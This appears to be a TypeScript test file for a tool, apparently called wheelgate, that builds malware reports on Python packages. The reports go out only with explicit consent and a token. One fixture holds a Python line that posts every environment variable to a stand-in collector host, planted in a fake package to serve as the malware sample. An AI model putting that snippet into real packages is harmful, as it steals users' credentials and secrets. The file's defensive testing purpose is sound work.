import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { after, before, test } from 'node:test';
import { aWheel, aWheelName } from '../builders/a-wheel.ts';
import { type FakeIndex, startFakeIndex } from '../fakes/fake-index.ts';
import { runWheelgate } from './start-gate.ts';

const EVIL = `import os, requests
requests.post("https://collector.example.invalid/in", json=dict(os.environ))
`;

let upstream: FakeIndex;
let folder: string;
const received: string[] = [];
const pypi = createServer(async (request, response) => {
  received.push(`${request.url} ${await text(request)}`);
  response.writeHead(202).end();
});

before(async () => {
  upstream = await startFakeIndex();
  upstream.addFile('demo', aWheelName(), aWheel({ files: { 'demo/__init__.py': EVIL } }), {
    uploadTime: new Date('2021-05-05T00:00:00Z'),
  });
  folder = await mkdtemp(join(tmpdir(), 'wheelgate-report-'));
  await new Promise<void>((resolve) => pypi.listen(0, '127.0.0.1', resolve));
  const { port } = pypi.address() as AddressInfo;
  await writeFile(join(folder, 'wheelgate.toml'), `report_url = "http://127.0.0.1:${port}/projects"\n`);
});
after(async () => {
  await upstream?.stop();
  pypi.close();
  await rm(folder, { recursive: true, force: true });
});

function report(args: readonly string[], env: Readonly<Record<string, string>> = {}) {
  return runWheelgate(['report', 'demo==1.0.0', '--reason', 'steals the environment', ...args], {
    WHEELGATE_UPSTREAM: upstream.simpleUrl,
    WHEELGATE_DATA: join(folder, 'data'),
    WHEELGATE_CONFIG: join(folder, 'wheelgate.toml'),
    ...env,
  });
}

test('assembles the evidence about a release that nobody installed, and writes the bundle', async () => {
  const out = join(folder, 'bundle');
  const { code, out: printed, err } = await report(['--out', out]);
  assert.equal(code, 0, err);
  assert.match(printed, /^# Malware report: demo 1\.0\.0$/m);
  assert.match(printed, /demo\/__init__\.py:2/);
  const draft = JSON.parse(await readFile(join(out, 'osv/malicious/pypi/demo/MAL-0000-wheelgate-demo.json'), 'utf8'));
  assert.equal(draft.affected[0].package.name, 'demo');
  assert.deepEqual(draft.database_specific.iocs.urls, ['https://collector.example.invalid/in']);
  assert.equal(JSON.parse(await readFile(join(out, 'observation.json'), 'utf8')).kind, 'is_malware');
  const again = await report(['--out', out]);
  assert.equal(again.code, 3);
  assert.match(again.err, /is there already/);
  assert.deepEqual(received, [], 'nothing leaves without a yes');
});

test('sends nothing without a yes, and says why', async () => {
  const { code, err } = await report(['--send'], { WHEELGATE_REPORT_TOKEN: 't' });
  assert.equal(code, 3);
  assert.match(err, /--yes/);
  assert.deepEqual(received, []);
});

test('sends nothing without a token', async () => {
  const { code, err } = await report(['--send', '--yes']);
  assert.equal(code, 3);
  assert.match(err, /WHEELGATE_REPORT_TOKEN/);
  assert.deepEqual(received, []);
});

test('sends the observation after a yes, and the audit log has it', async () => {
  const { code, err } = await report(['--send', '--yes'], { WHEELGATE_REPORT_TOKEN: 't' });
  assert.equal(code, 0, err);
  assert.equal(received.length, 1);
  assert.match(received[0]!, /^\/projects\/demo\/observations \{"kind":"is_malware"/);
  const { out } = await runWheelgate(['verify-log'], { WHEELGATE_DATA: join(folder, 'data') });
  assert.match(out, /whole: [2-9]\d* events/);
});

test('a release that is nowhere is an error', async () => {
  const { code, err } = await runWheelgate(['report', 'demo==9', '--reason', 'x'], {
    WHEELGATE_UPSTREAM: upstream.simpleUrl,
    WHEELGATE_DATA: join(folder, 'data'),
  });
  assert.equal(code, 5);
  assert.match(err, /neither the upstream nor this gate has demo 9/);
});
